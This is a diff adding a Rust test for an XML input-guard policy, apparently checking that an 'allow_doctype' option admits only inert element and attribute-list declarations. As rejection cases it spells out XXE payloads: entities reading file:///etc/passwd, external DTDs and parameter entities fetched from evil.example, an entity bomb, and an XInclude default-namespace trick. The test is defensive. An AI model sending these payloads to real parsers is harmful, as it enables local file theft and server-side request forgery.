@@ -2734,3 +2734,93 @@ fn characters_xml_forbids_in_text() {
         ],
     );
 }
+
+/// `[xml] allow_doctype`: a DOCTYPE whose internal subset only declares
+/// elements and attribute lists passes; whatever a DTD can do to the
+/// document (external subsets, entities, notations, parameter entities,
+/// attribute defaults) is refused still.
+#[test]
+fn allow_doctype_admits_only_declarations_that_change_nothing() {
+    let harmless = [
+        ("bare", "<!DOCTYPE r><r/>"),
+        (
+            "element declarations",
+            "<?xml version=\"1.0\"?>\n<!DOCTYPE r [\n  <!ELEMENT r (a*)>\n  <!ELEMENT a (#PCDATA)>\n]>\n<r><a>x</a></r>",
+        ),
+        (
+            "attribute lists without defaults",
+            "<!DOCTYPE r [<!ATTLIST r id ID #REQUIRED kind (x|y) #IMPLIED>]><r id=\"a\"/>",
+        ),
+        (
+            "comments and processing instructions",
+            "<!-- c --><!DOCTYPE r [<!-- inside --><?app data?>]><?after x?><r/>",
+        ),
+        ("name other than the root's", "<!DOCTYPE other><r/>"),
+    ];
+    let allowed = policy(|p| p.allow_doctype = true);
+    let by_default: Vec<_> = harmless.iter().map(|&(n, d)| (n, d, DOCTYPE)).collect();
+    check(&XmlPolicy::default(), &by_default);
+    let passing: Vec<_> = harmless.iter().map(|&(n, d)| (n, d, OK)).collect();
+    check(&allowed, &passing);
+    check(
+        &allowed,
+        &[
+            (
+                "external subset",
+                "<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>",
+                DOCTYPE,
+            ),
+            (
+                "public identifier",
+                "<!DOCTYPE r PUBLIC \"-//X//EN\" \"x.dtd\"><r/>",
+                DOCTYPE,
+            ),
+            (
+                "external entity",
+                "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
+                DOCTYPE,
+            ),
+            (
+                "entity bomb",
+                "<!DOCTYPE r [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]><r>&b;</r>",
+                DOCTYPE,
+            ),
+            (
+                "parameter entity",
+                "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/p\"> %p;]><r/>",
+                DOCTYPE,
+            ),
+            (
+                "notation",
+                "<!DOCTYPE r [<!NOTATION n SYSTEM \"http://evil.example/n\">]><r/>",
+                DOCTYPE,
+            ),
+            (
+                "default xmlns puts elements in XInclude",
+                "<!DOCTYPE include [<!ATTLIST include xmlns CDATA #FIXED \"http://www.w3.org/2001/XInclude\" href CDATA #IMPLIED>]><include href=\"file:///etc/passwd\"/>",
+                DOCTYPE,
+            ),
+            (
+                "default schema location",
+                "<!DOCTYPE r [<!ATTLIST r xsi:schemaLocation CDATA 'urn:x http://10.0.0.1/x.xsd'>]><r/>",
+                DOCTYPE,
+            ),
+            ("lower-case doctype", "<!doctype r><r/>", DOCTYPE),
+            (
+                "undeclared entity reference",
+                "<!DOCTYPE r [<!ELEMENT r ANY>]><r>&x;</r>",
+                ENTITY,
+            ),
+            ("two DOCTYPEs", "<!DOCTYPE r><!DOCTYPE r><r/>", MALFORMED),
+            ("after the root", "<r/><!DOCTYPE r>", MALFORMED),
+            ("inside the root", "<r><!DOCTYPE r></r>", MALFORMED),
+            ("not closed", "<!DOCTYPE r [<!ELEMENT r ANY>", MALFORMED),
+            ("junk in the subset", "<!DOCTYPE r [r]><r/>", MALFORMED),
+        ],
+    );
+    // The key in a policy file.
+    let policy = input_guard::policy::Policy::from_toml("[xml]\nallow_doctype = true\n")
+        .unwrap_or_else(|e| panic!("{e}"));
+    assert!(policy.xml.allow_doctype);
+    assert!(!input_guard::policy::Policy::default().xml.allow_doctype);
+}
